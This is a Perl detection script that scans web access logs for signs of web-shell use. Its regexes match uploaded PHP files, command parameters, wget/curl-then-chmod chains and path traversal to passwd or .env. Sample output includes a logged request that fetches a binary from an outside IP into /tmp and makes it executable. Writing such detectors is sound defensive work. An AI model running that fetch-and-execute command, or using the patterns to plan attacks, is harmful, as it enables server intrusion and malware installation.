#!/usr/bin/perl
# Lists requests that look like use of a shell. Input: access log on STDIN.
use strict;
use warnings;
my @rx = (
    [ upload_php => qr{/(uploads|images|files|tmp)/[^ ?]*\.(php\d?|phtml|jspx?|aspx?)}i ],
    [ cmd_param  => qr{[?&](c|cmd|exec|x|z|0)=(id|whoami|uname|cat|ls|wget|curl|powershell)}i ],
    [ fetch_run  => qr{(wget|curl)[+%20]+.*(%3b|;)chmod}i ],
    [ traversal  => qr{\.\./\.\./.*(passwd|wp-config|\.env)}i ],
);
while (my $l = <STDIN>) {
    for my $r (@rx) {
        my ($n, $re) = @$r;
        if ($l =~ $re) { print "$n\t$l"; last; }
    }
}
__END__
cmd_param	GET /u/a.php?cmd=whoami
fetch_run	GET /u/a.php?c=wget+http://45.155.205.118/xm+-O+/tmp/xm%3bchmod+755+/tmp/xm
